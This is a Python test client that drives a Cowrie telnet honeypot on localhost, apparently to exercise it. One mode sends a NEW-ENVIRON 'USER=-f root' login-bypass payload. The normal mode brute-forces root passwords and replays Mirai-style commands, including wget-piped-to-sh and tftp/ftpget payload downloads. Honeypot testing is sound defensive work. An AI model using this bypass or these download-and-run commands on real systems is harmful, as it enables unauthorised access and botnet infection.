"""Raw-socket telnet client for cowrie on 127.0.0.1:2223. Answers option negotiation like a
simple client (WILL NAWS + window size, WILL TTYPE refused etc.), logs in, runs commands.
Modes: normal | cve | garbage. All socket ops have timeouts."""
import socket, sys, time
IAC, DONT, DO, WONT, WILL, SB, SE = 255, 254, 253, 252, 251, 250, 240
NAWS, ECHO, SGA, TTYPE, NEW_ENVIRON = 31, 1, 3, 24, 39
HOST, PORT = '127.0.0.1', 2223
class T:
    def __init__(self):
        self.s = socket.create_connection((HOST, PORT), timeout=5); self.buf = bytearray(); self.text = bytearray()
    def handle(self, data):
        i = 0
        while i < len(data):
            b = data[i]
            if b == IAC and i + 1 < len(data):
                c = data[i+1]
                if c in (DO, DONT, WILL, WONT) and i + 2 < len(data):
                    opt = data[i+2]; i += 3
                    if c == DO:
                        if opt == NAWS:
                            self.s.sendall(bytes([IAC, WILL, NAWS, IAC, SB, NAWS, 0, 132, 0, 40, IAC, SE]))
                        else:
                            self.s.sendall(bytes([IAC, WONT, opt]))
                    elif c == WILL:
                        self.s.sendall(bytes([IAC, DO if opt in (ECHO, SGA) else DONT, opt]))
                    elif c == WONT:
                        self.s.sendall(bytes([IAC, DONT, opt]))   # acknowledge, like a real client
                    elif c == DONT:
                        self.s.sendall(bytes([IAC, WONT, opt]))
                    continue
                if c == SB:
                    j = data.find(bytes([IAC, SE]), i); i = (j + 2) if j >= 0 else len(data); continue
                i += 2; continue
            self.text.append(b); i += 1
    def read(self, secs=1.0, until=None):
        end = time.time() + secs
        while time.time() < end:
            self.s.settimeout(max(0.05, end - time.time()))
            try: d = self.s.recv(65536)
            except socket.timeout: break
            if not d: break
            self.handle(d)
            if until and until in self.text: break
        t = bytes(self.text); self.text.clear(); sys.stdout.write(t.decode('latin1')); return t
    def line(self, s, wait=1.0, until=None):
        self.s.sendall(s.encode() + b'\r\n'); return self.read(wait, until)
mode = sys.argv[1] if len(sys.argv) > 1 else 'normal'
t = T()
if mode == 'garbage':
    t.read(1.5)
    t.s.sendall(bytes([IAC, 1, 2, 3]) + b'\x00garbage\r\n')  # IAC followed by an invalid command byte
    t.read(2); t.s.close(); sys.exit(0)
if mode == 'cve':
    # CVE-2026-24061 style: USER=-f root via NEW-ENVIRON IS
    t.s.sendall(bytes([IAC, WILL, NEW_ENVIRON]))
    t.read(1.0)
    t.s.sendall(bytes([IAC, SB, NEW_ENVIRON, 0, 0]) + b'USER' + bytes([1]) + b'-f root' + bytes([3]) + b'TERM' + bytes([1]) + b'xterm' + bytes([IAC, SE]))
    t.read(1.5, b'login: ')
    t.line('anything', 1.5, b'Password: ')
    t.line('id', 3)
    t.line('uname -a', 1.5); t.line('exit', 1.5); t.s.close(); sys.exit(0)
t.read(2, b'login: ')
t.line('root', 1.5, b'Password: '); t.line('123456', 3, b'login: ')          # failed
t.line('root', 1.5, b'Password: '); t.line('toor', 3, b'# ')                   # success
for c, w in [('enable', 1.5), ('system', 1.5), ('shell', 1.5), ('/bin/busybox MIRAI', 1.5), ('cat /proc/mounts; /bin/busybox ECCHI', 1.5),
          ('cd /tmp || cd /var/run', 1.5), ('wget http://127.0.0.1:8000/bot.sh -O- | sh', 3),
          ('tftp -g -r bins.sh 127.0.0.1', 10), ('ftpget -v -u anonymous -p x 127.0.0.1 f.bin f.bin', 8),
          ('uname -a', 1.5), ('exit', 2)]:
    t.line(c, w)
t.s.close()
